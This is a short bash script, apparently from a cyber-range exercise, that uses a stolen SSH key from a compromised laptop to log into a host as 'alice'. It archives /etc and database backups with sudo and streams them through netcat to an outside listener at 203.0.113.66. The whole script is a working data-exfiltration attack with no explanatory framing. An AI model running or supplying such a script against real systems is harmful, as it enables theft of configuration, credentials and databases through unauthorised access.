#!/bin/bash
# From alice's taken laptop: configuration and dumps leave as one stream.
timeout 30 nc -l 203.0.113.66 4448 >/dev/null &
sleep 0.5
ssh -q -b 10.20.0.11 -i /range/keys/alice alice@10.20.0.5 'sudo tar -cz /etc /var/backups/db 2>/dev/null | nc -N 203.0.113.66 4448'
wait
